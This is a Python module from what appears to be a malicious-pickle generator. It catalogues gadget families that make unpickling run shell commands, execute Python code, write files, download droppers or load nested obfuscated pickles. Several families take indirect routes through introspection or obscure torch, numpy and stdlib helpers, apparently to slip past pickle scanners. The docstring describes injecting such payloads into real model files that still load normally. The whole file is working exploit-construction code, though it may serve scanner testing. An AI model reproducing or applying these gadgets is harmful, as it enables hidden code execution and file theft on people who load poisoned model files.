"""The catalogue of malicious families.

A family is one gadget (or one gadget chain): the dangerous callable it ends
in, the capability it gives an attacker, and how the unpickler ends up
running the payload. `build(p, nested)` returns the expression tree (see
expr.py) for payload arguments `p` (payloads.Payloads); `nested(p)` returns
the bytes of an inner malicious pickle for the nested-deserialization
families. The payload call (marked `payload=True`, else the root) is the one
the delivery technique rewrites.

`returns`: the load goes on normally after the payload ran (the process is
not replaced, nothing raises), so the family can be injected into a real
model that must still load.
"""

from dataclasses import dataclass
from typing import Callable

from .expr import Global, attr, call, method, Call

CAPABILITIES = ("process", "code_exec", "filesystem", "network", "import",
                "introspection", "deserialize", "debug", "gadget")


@dataclass(frozen=True)
class Family:
    name: str
    capability: str
    payload: str
    how: str
    build: Callable
    returns: bool = True


FAMILIES = []


def family(name, capability, payload, how, returns=True):
    def register(build):
        FAMILIES.append(Family(name, capability, payload, how, build, returns))
        return build
    return register


def run(callable_tree, *args):
    """Call a value that is not a module attribute (a looked-up method)."""
    return Call(callable_tree, tuple(args))


# ---- process ----------------------------------------------------------------

@family("os_system", "process", "os.system", "runs a shell command line")
def _(p, nested):
    return call("os", "system", p.shell())


@family("posix_system", "process", "posix.system",
        "os.system under its C module name")
def _(p, nested):
    return call("posix", "system", p.shell())


@family("os_popen", "process", "os.popen",
        "starts a shell through a pipe; closing the pipe waits for it")
def _(p, nested):
    return call("os", "popen", p.shell())


@family("subprocess_popen", "process", "subprocess.Popen",
        "the Popen class constructor starts the process")
def _(p, nested):
    return call("subprocess", "Popen", p.argv())


@family("subprocess_run", "process", "subprocess.run", "runs argv and waits")
def _(p, nested):
    return call("subprocess", "run", p.argv())


@family("subprocess_call", "process", "subprocess.call", "runs argv and waits")
def _(p, nested):
    return call("subprocess", "call", p.argv())


@family("subprocess_check_call", "process", "subprocess.check_call",
        "runs argv and waits")
def _(p, nested):
    return call("subprocess", "check_call", p.argv())


@family("subprocess_check_output", "process", "subprocess.check_output",
        "runs argv and returns its output")
def _(p, nested):
    return call("subprocess", "check_output", p.argv())


@family("subprocess_getoutput", "process", "subprocess.getoutput",
        "runs a shell command line and returns its output")
def _(p, nested):
    return call("subprocess", "getoutput", p.shell())


@family("subprocess_getstatusoutput", "process", "subprocess.getstatusoutput",
        "runs a shell command line, returns status and output")
def _(p, nested):
    return call("subprocess", "getstatusoutput", p.shell())


@family("os_execv", "process", "os.execv",
        "replaces the loading process with a shell", returns=False)
def _(p, nested):
    return call("os", "execv", "/bin/sh", p.argv())


@family("os_execvp", "process", "os.execvp",
        "replaces the loading process, looking the program up in PATH",
        returns=False)
def _(p, nested):
    return call("os", "execvp", "sh", ["sh", "-c", p.shell()])


@family("os_spawnv", "process", "os.spawnv",
        "spawns a shell and waits (mode P_WAIT = 0)")
def _(p, nested):
    return call("os", "spawnv", 0, "/bin/sh", p.argv())


@family("os_spawnlp", "process", "os.spawnlp",
        "spawns a program found in PATH and waits")
def _(p, nested):
    return call("os", "spawnlp", 0, "sh", "sh", "-c", p.shell())


@family("os_posix_spawn", "process", "os.posix_spawn",
        "posix_spawn of a shell with an empty environment")
def _(p, nested):
    return call("os", "posix_spawn", "/bin/sh", p.argv(), {})


@family("pty_spawn", "process", "pty.spawn",
        "forks a shell on a new pseudo-terminal and waits for it")
def _(p, nested):
    return call("pty", "spawn", p.argv())


# ---- code execution -----------------------------------------------------------

@family("builtins_eval", "code_exec", "builtins.eval",
        "evaluates a Python expression")
def _(p, nested):
    return call("builtins", "eval", p.expression())


@family("builtins_exec", "code_exec", "builtins.exec",
        "executes Python statements")
def _(p, nested):
    return call("builtins", "exec", p.statement())


@family("compile_function", "code_exec", "types.FunctionType",
        "builtins.compile makes a code object, types.FunctionType wraps it "
        "in a function, an empty REDUCE calls it")
def _(p, nested):
    code = call("builtins", "compile", p.statement(), "<model>", "exec")
    return run(call("types", "FunctionType", code, {}, payload=True))


@family("code_interpreter_runsource", "code_exec",
        "code.InteractiveInterpreter.runsource",
        "compiles and runs source in an interpreter object")
def _(p, nested):
    interpreter = call("code", "InteractiveInterpreter")
    return call("code", "InteractiveInterpreter.runsource", interpreter,
                p.statement(), payload=True)


@family("code_console_push", "code_exec", "code.InteractiveConsole.push",
        "feeds a line to an interactive console object, which runs it")
def _(p, nested):
    console = call("code", "InteractiveConsole")
    return call("code", "InteractiveConsole.push", console, p.statement(),
                payload=True)


@family("runpy_run_code", "code_exec", "runpy._run_code",
        "runpy's helper execs source in a fresh globals dict")
def _(p, nested):
    return call("runpy", "_run_code", p.statement(), {})


@family("ctypes_pyrun_simplestring", "code_exec",
        "ctypes.pythonapi.PyRun_SimpleString",
        "the C API entry point runs source in __main__ through ctypes")
def _(p, nested):
    return call("ctypes", "pythonapi.PyRun_SimpleString",
                p.statement().encode())


# ---- filesystem -------------------------------------------------------------

@family("builtins_open_write", "filesystem", "builtins.open",
        "opens a file for writing, getattr(file, 'write') writes it")
def _(p, nested):
    handle = call("builtins", "open", p.drop_path(), "w", payload=True)
    return run(attr(handle, "write"), p.content())


@family("io_fileio_write", "filesystem", "io.FileIO",
        "raw FileIO opened for writing, then write")
def _(p, nested):
    handle = call("io", "FileIO", p.drop_path(), "w", payload=True)
    return run(attr(handle, "write"), p.content().encode())


@family("codecs_open_write", "filesystem", "codecs.open",
        "codecs.open for writing, then write")
def _(p, nested):
    handle = call("codecs", "open", p.drop_path(), "w", payload=True)
    return run(attr(handle, "write"), p.content())


@family("pathlib_write_text", "filesystem", "pathlib.Path.write_text",
        "Path(...).write_text called as an unbound method")
def _(p, nested):
    path = call("pathlib", "Path", p.drop_path())
    return call("pathlib", "Path.write_text", path, p.content(), payload=True)


@family("pathlib_touch", "filesystem", "pathlib.PosixPath.touch",
        "PosixPath(...).touch creates the file")
def _(p, nested):
    path = call("pathlib", "PosixPath", p.drop_path())
    return call("pathlib", "PosixPath.touch", path, payload=True)


@family("shutil_copyfile", "filesystem", "shutil.copyfile",
        "copies a file over an attacker-chosen path")
def _(p, nested):
    return call("shutil", "copyfile", p.source_path(), p.drop_path())


@family("shutil_copy", "filesystem", "shutil.copy", "copies a file")
def _(p, nested):
    return call("shutil", "copy", p.source_path(), p.drop_path())


@family("os_mkdir", "filesystem", "os.mkdir", "creates a directory")
def _(p, nested):
    return call("os", "mkdir", p.drop_path())


@family("os_symlink", "filesystem", "os.symlink",
        "plants a symbolic link to a sensitive file")
def _(p, nested):
    return call("os", "symlink", p.source_path(), p.drop_path())


@family("os_open_write", "filesystem", "os.open",
        "os.open with O_WRONLY|O_CREAT|O_TRUNC, then os.write on the fd")
def _(p, nested):
    fd = call("os", "open", p.drop_path(), 0o1101, 0o644, payload=True)
    return call("os", "write", fd, p.content().encode())


# ---- network ----------------------------------------------------------------

@family("urllib_urlopen_drop", "network", "urllib.request.urlopen",
        "downloads a URL and writes the body to disk (a dropper)")
def _(p, nested):
    body = run(attr(call("urllib.request", "urlopen", p.url(), payload=True),
                    "read"))
    handle = call("builtins", "open", p.drop_path(), "wb")
    return run(attr(handle, "write"), body)


@family("urllib_urlretrieve", "network", "urllib.request.urlretrieve",
        "downloads a URL straight to a file")
def _(p, nested):
    return call("urllib.request", "urlretrieve", p.url(), p.drop_path())


@family("urllib_opener_open", "network", "urllib.request.OpenerDirector.open",
        "build_opener().open(url), the body written to disk")
def _(p, nested):
    opener = call("urllib.request", "build_opener")
    response = call("urllib.request", "OpenerDirector.open", opener, p.url(),
                    payload=True)
    handle = call("builtins", "open", p.drop_path(), "wb")
    return run(attr(handle, "write"), run(attr(response, "read")))


@family("socket_unix_bind", "network", "socket.socket.bind",
        "creates a socket and binds it (a Unix socket: a listener on disk)")
def _(p, nested):
    sock = call("socket", "socket", 1, 1)
    return call("socket", "socket.bind", sock, p.drop_path(), payload=True)


# ---- import machinery ---------------------------------------------------------

@family("importlib_import_module", "import", "importlib.import_module",
        "imports os by name, getattr reaches system")
def _(p, nested):
    module = call("importlib", "import_module", "os", payload=True)
    return run(attr(module, "system"), p.shell())


@family("builtins_import", "import", "builtins.__import__",
        "__import__('os') then getattr(..., 'system')")
def _(p, nested):
    module = call("builtins", "__import__", "os", payload=True)
    return run(attr(module, "system"), p.shell())


@family("pkgutil_resolve_name", "import", "pkgutil.resolve_name",
        "resolves 'os:system' to the function, which is then called")
def _(p, nested):
    return run(call("pkgutil", "resolve_name", "os:system", payload=True),
               p.shell())


@family("pydoc_locate", "import", "pydoc.locate",
        "pydoc.locate('os.system') imports and returns the function")
def _(p, nested):
    return run(call("pydoc", "locate", "os.system", payload=True), p.shell())


@family("logging_config_resolve", "import", "logging.config._resolve",
        "logging.config's dotted-name resolver imports the target")
def _(p, nested):
    return run(call("logging.config", "_resolve", "subprocess.getoutput",
                    payload=True), p.shell())


@family("torch_import_dotted_name", "import", "torch._utils._import_dotted_name",
        "torch's dotted-name importer returns os.system")
def _(p, nested):
    return run(call("torch._utils", "_import_dotted_name", "os.system",
                    payload=True), p.shell())


# ---- introspection ------------------------------------------------------------

@family("getattr_module_attribute", "introspection", "os.system",
        "os.path is the posixpath module, whose `os` attribute is os; "
        "builtins.getattr twice reaches system")
def _(p, nested):
    os_module = attr(Global("os", "path"), "os")
    return run(call("builtins", "getattr", os_module, "system", payload=True),
               p.shell())


@family("function_globals", "introspection", "os.system",
        "operator.attrgetter('__init__.__globals__') on a stdlib class gives "
        "its module's globals; os is taken from there")
def _(p, nested):
    getter = call("operator", "attrgetter", "__init__.__globals__")
    module_globals = run(getter, Global("logging", "Handler"))
    os_module = call("operator", "getitem", module_globals, "os", payload=True)
    return run(attr(os_module, "system"), p.shell())


@family("sys_modules_lookup", "introspection", "os.system",
        "sys.modules['os'] through operator.getitem")
def _(p, nested):
    os_module = call("operator", "getitem", Global("sys", "modules"), "os",
                     payload=True)
    return run(attr(os_module, "system"), p.shell())


@family("builtins_dict_eval", "introspection", "builtins.eval",
        "builtins.__dict__['eval'] without naming eval as a global")
def _(p, nested):
    evaluate = call("operator", "getitem", Global("builtins", "__dict__"),
                    "eval", payload=True)
    return run(evaluate, p.expression())


@family("vars_module_dict", "introspection", "os.system",
        "vars(shutil.os)['system']: a module dict read with dict.get")
def _(p, nested):
    namespace = call("builtins", "vars", Global("shutil", "os"))
    system = call("builtins", "dict.get", namespace, "system", payload=True)
    return run(system, p.shell())


@family("attrgetter_chain", "introspection", "os.system",
        "operator.attrgetter('os.system') applied to the posixpath module")
def _(p, nested):
    getter = call("operator", "attrgetter", "os.system", payload=True)
    return run(run(getter, Global("os", "path")), p.shell())


# ---- nested deserialization ---------------------------------------------------

@family("pickle_loads", "deserialize", "pickle.loads",
        "unpickles a second, inner malicious pickle")
def _(p, nested):
    return call("pickle", "loads", nested(p))


@family("c_pickle_loads", "deserialize", "_pickle.loads",
        "the C unpickler's module function on an inner pickle")
def _(p, nested):
    return call("_pickle", "loads", nested(p))


@family("pure_pickle_loads", "deserialize", "pickle._loads",
        "the pure-Python unpickler on an inner pickle")
def _(p, nested):
    return call("pickle", "_loads", nested(p))


@family("pickle_unpickler_load", "deserialize", "pickle.Unpickler.load",
        "pickle.Unpickler(io.BytesIO(inner)).load()")
def _(p, nested):
    unpickler = call("pickle", "Unpickler", call("io", "BytesIO", nested(p)))
    return call("pickle", "Unpickler.load", unpickler, payload=True)


@family("pickle_loads_base64", "deserialize", "pickle.loads",
        "base64-encoded inner pickle, decoded with base64.b64decode")
def _(p, nested):
    import base64
    text = base64.b64encode(nested(p)).decode()
    return call("pickle", "loads", call("base64", "b64decode", text),
                payload=True)


@family("pickle_loads_zlib", "deserialize", "pickle.loads",
        "zlib-compressed inner pickle, inflated with zlib.decompress")
def _(p, nested):
    import zlib
    return call("pickle", "loads", call("zlib", "decompress",
                                        zlib.compress(nested(p), 9)),
                payload=True)


@family("marshal_function", "deserialize", "marshal.loads",
        "marshal.loads rebuilds a code object, types.FunctionType makes it a "
        "function, an empty REDUCE calls it (CPython 3.11 bytecode)")
def _(p, nested):
    import marshal
    code = marshal.dumps(compile(p.statement(), "<model>", "exec"))
    code_object = call("marshal", "loads", code, payload=True)
    return run(call("types", "FunctionType", code_object, {}))


@family("torch_load_from_bytes", "deserialize", "torch.storage._load_from_bytes",
        "torch's storage helper torch.loads an inner torch zip with "
        "weights_only=False")
def _(p, nested):
    from .containers import torch_zip
    return call("torch.storage", "_load_from_bytes", torch_zip(nested(p, 2)))


@family("numpy_load_object", "deserialize", "numpy.load",
        "numpy.load(BytesIO(npy), None, allow_pickle=True) of an object "
        "array whose pickle is malicious")
def _(p, nested):
    from .containers import npy
    stream = call("io", "BytesIO", npy(nested(p, 3)))
    return call("numpy", "load", stream, None, True, payload=True)


@family("joblib_load", "deserialize", "joblib.load",
        "joblib.load of an inner pickle held in a BytesIO")
def _(p, nested):
    stream = call("io", "BytesIO", nested(p))
    return call("joblib", "load", stream, payload=True)


@family("pandas_read_pickle", "deserialize", "pandas.read_pickle",
        "pandas.read_pickle of an inner pickle held in a BytesIO")
def _(p, nested):
    stream = call("io", "BytesIO", nested(p))
    return call("pandas", "read_pickle", stream, payload=True)


@family("dill_loads", "deserialize", "dill.loads", "dill.loads of an inner pickle")
def _(p, nested):
    return call("dill", "loads", nested(p))


@family("yaml_unsafe_load", "deserialize", "yaml.unsafe_load",
        "PyYAML's unsafe loader applies !!python/object/apply tags")
def _(p, nested):
    document = "!!python/object/apply:os.system [%s]" % _yaml_quote(p.shell())
    return call("yaml", "unsafe_load", document)


def _yaml_quote(text):
    return '"%s"' % text.replace("\\", "\\\\").replace('"', '\\"')


# ---- debuggers and profilers --------------------------------------------------

@family("cprofile_run", "debug", "cProfile.run",
        "profiles a statement: execs it in __main__")
def _(p, nested):
    return call("cProfile", "run", p.statement())


@family("profile_run", "debug", "profile.run",
        "the pure-Python profiler execs a statement")
def _(p, nested):
    return call("profile", "run", p.statement())


@family("cprofile_runcall", "debug", "cProfile.Profile.runcall",
        "Profile().runcall(os.system, cmd)")
def _(p, nested):
    profiler = call("cProfile", "Profile")
    return call("cProfile", "Profile.runcall", profiler, Global("os", "system"),
                p.shell(), payload=True)


@family("bdb_run", "debug", "bdb.Bdb.run",
        "the debugger base class runs a statement under its trace function")
def _(p, nested):
    return call("bdb", "Bdb.run", call("bdb", "Bdb"), p.statement(),
                payload=True)


@family("pdb_scripted_run", "debug", "pdb.Pdb.run",
        "a Pdb whose stdin is io.StringIO('continue') runs a statement "
        "without waiting for a user")
def _(p, nested):
    debugger = call("pdb", "Pdb", "tab", call("io", "StringIO", "continue\n"),
                    call("io", "StringIO"))
    return call("pdb", "Pdb.run", debugger, p.statement(), payload=True)


@family("timeit_timeit", "debug", "timeit.timeit",
        "times a statement once: compiles and runs it")
def _(p, nested):
    return call("timeit", "timeit", p.statement(), "pass",
                Global("time", "perf_counter"), 1)


@family("timeit_timer", "debug", "timeit.Timer.timeit",
        "Timer(stmt).timeit(1)")
def _(p, nested):
    timer = call("timeit", "Timer", p.statement())
    return call("timeit", "Timer.timeit", timer, 1, payload=True)


@family("trace_run", "debug", "trace.Trace.run",
        "trace.Trace(0, 0).run(stmt) execs in __main__")
def _(p, nested):
    tracer = call("trace", "Trace", 0, 0)
    return call("trace", "Trace.run", tracer, p.statement(), payload=True)


# ---- gadgets: library functions that run code indirectly ------------------------

@family("torch_collect_env_run", "gadget", "torch.utils.collect_env.run",
        "torch's environment collector runs a shell command line")
def _(p, nested):
    return call("torch.utils.collect_env", "run", p.shell())


@family("torch_fx_exec_with_source", "gadget",
        "torch.fx.graph_module._exec_with_source",
        "torch.fx compiles and execs generated source")
def _(p, nested):
    return call("torch.fx.graph_module", "_exec_with_source", p.statement(), {})


@family("torch_hub_download", "gadget", "torch.hub.download_url_to_file",
        "torch.hub downloads a URL to a path (file:// works too)")
def _(p, nested):
    return call("torch.hub", "download_url_to_file", p.url(), p.drop_path(),
                None, False)


@family("torch_save_drop", "gadget", "torch.save",
        "torch.save writes an attacker-chosen file")
def _(p, nested):
    return call("torch", "save", p.content(), p.drop_path())


@family("numpy_runstring", "gadget", "numpy.testing._private.utils.runstring",
        "numpy's test helper execs a string")
def _(p, nested):
    return call("numpy.testing._private.utils", "runstring", p.statement(), {})


@family("numpy_savetxt_drop", "gadget", "numpy.savetxt",
        "numpy.savetxt writes its header text verbatim (comments='')")
def _(p, nested):
    return call("numpy", "savetxt", p.drop_path(), [], "%s", " ", "\n",
                p.content(), "", "")


@family("pydoc_pipepager", "gadget", "pydoc.pipepager",
        "pydoc pages text through a shell command line")
def _(p, nested):
    return call("pydoc", "pipepager", "", p.shell())


@family("pydoc_tempfilepager", "gadget", "pydoc.tempfilepager",
        "pydoc runs os.system(cmd + ' \"tmpfile\"')")
def _(p, nested):
    return call("pydoc", "tempfilepager", "", p.shell() + " #")


@family("uuid_command_stdout", "gadget", "uuid._get_command_stdout",
        "uuid's helper runs a program found in PATH with arguments")
def _(p, nested):
    return call("uuid", "_get_command_stdout", "sh", "-c", p.shell())


@family("multiprocessing_spawnv_passfds", "gadget",
        "multiprocessing.util.spawnv_passfds",
        "multiprocessing's fork_exec wrapper starts a program")
def _(p, nested):
    return call("multiprocessing.util", "spawnv_passfds", b"/bin/sh", p.argv(),
                [])


@family("webbrowser_generic_browser", "gadget", "webbrowser.GenericBrowser.open",
        "a GenericBrowser whose command is a shell; open() Popens it")
def _(p, nested):
    browser = call("webbrowser", "GenericBrowser", p.argv())
    return call("webbrowser", "GenericBrowser.open", browser, "about:blank",
                payload=True)


@family("imaplib_imap4_stream", "gadget", "imaplib.IMAP4_stream",
        "IMAP4_stream's constructor Popens its command with shell=True",
        returns=False)
def _(p, nested):
    return call("imaplib", "IMAP4_stream", p.shell())


@family("ctypes_libc_system", "gadget", "ctypes.CDLL",
        "ctypes.CDLL(None) is libc; getattr reaches system, called with bytes")
def _(p, nested):
    libc = call("ctypes", "CDLL", None, payload=True)
    return run(attr(libc, "system"), p.shell().encode())


@family("idlelib_calltip_get_entity", "gadget", "idlelib.calltip.get_entity",
        "IDLE's calltip helper evals an expression")
def _(p, nested):
    return call("idlelib.calltip", "get_entity", p.expression())


@family("idlelib_autocomplete_get_entity", "gadget",
        "idlelib.autocomplete.AutoComplete.get_entity",
        "IDLE's completion helper evals a name (self unused, passed None)")
def _(p, nested):
    return call("idlelib.autocomplete", "AutoComplete.get_entity", None,
                p.expression(), payload=True)


@family("doctest_run_examples", "gadget", "doctest.run_docstring_examples",
        "doctest runs the >>> examples of a string as a docstring")
def _(p, nested):
    return call("doctest", "run_docstring_examples",
                ">>> %s\n" % p.statement(), {}, False, "model")


@family("logging_file_handler", "gadget", "logging.FileHandler",
        "logging.FileHandler opens (creates) its log file on construction")
def _(p, nested):
    return call("logging", "FileHandler", p.drop_path())


def by_name():
    return {f.name: f for f in FAMILIES}
